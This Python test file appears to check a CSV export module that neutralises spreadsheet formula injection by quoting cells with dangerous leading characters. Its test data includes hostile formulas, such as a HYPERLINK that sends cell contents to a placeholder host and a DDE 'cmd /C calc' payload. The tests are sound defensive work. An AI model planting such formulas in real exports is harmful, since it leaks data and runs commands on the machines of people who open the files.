"""CSV export against formula injection: every dangerous prefix, numbers, and a real round trip."""

from __future__ import annotations

import csv
import os
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from cxcareer.store.csv_safe import DANGEROUS_PREFIXES, csv_row, neutralise, write_csv


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_dangerous_prefix_is_neutralised(prefix: str) -> None:
    cell = f'{prefix}HYPERLINK("http://example.invalid/?"&A1)'
    assert neutralise(cell) == "'" + cell
    assert prefix in DANGEROUS_PREFIXES


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("\x00=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),  # a NUL cannot hide a formula
        ("Ana\x00 Souza", "Ana Souza"),
        ("-5", "'-5"),  # text that looks like a number is still text
        ("João = lead", "João = lead"),  # only the first character matters
        ("", ""),
        ("'already quoted", "'already quoted"),
        ("plain", "plain"),
    ],
)
def test_nul_and_harmless_cells(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


def test_numbers_written_as_numbers_stay_numbers() -> None:
    row = csv_row([-3, -2.5, Decimal("-0.75"), 0, True, None, date(2026, 1, 31), "=1+1", "-3"])
    assert row == ["-3", "-2.5", "-0.75", "0", "true", "", "2026-01-31", "'=1+1", "'-3"]


def test_round_trip_through_the_csv_module(tmp_path: Path) -> None:
    target = tmp_path / "export.csv"
    target.write_text("old content")
    os.chmod(target, 0o644)
    rows: list[list[object]] = [
        ["=SUM(A1:A9)", -4, "line one\nline two", 'say "hi", ok'],
        ["@evil", 3.25, "\ttabbed", "Conceição\x00"],
        ["+1", 0, "\rcr", "-minus"],
    ]
    written = write_csv(target, ["name", "level", "notes", "quote"], rows, force=True)

    assert written == target
    assert target.stat().st_mode & 0o777 == 0o600
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets read UTF-8
    with target.open(encoding="utf-8-sig", newline="") as source:
        back = list(csv.reader(source))
    assert back[0] == ["name", "level", "notes", "quote"]
    assert back[1] == ["'=SUM(A1:A9)", "-4", "line one\nline two", 'say "hi", ok']
    assert back[2] == ["'@evil", "3.25", "'\ttabbed", "Conceição"]
    assert back[3] == ["'+1", "0", "'\rcr", "'-minus"]
    assert float(back[1][1]) == -4
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.csv"]  # no temp file left


def test_a_failed_write_leaves_the_old_file_and_no_temp(tmp_path: Path) -> None:
    target = tmp_path / "export.csv"
    target.write_text("old content")

    def rows() -> Iterator[list[object]]:
        yield ["ok"]
        raise RuntimeError("the query failed half way")

    with pytest.raises(RuntimeError, match="half way"):
        write_csv(target, ["a"], rows(), force=True)
    assert target.read_text() == "old content"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.csv"]
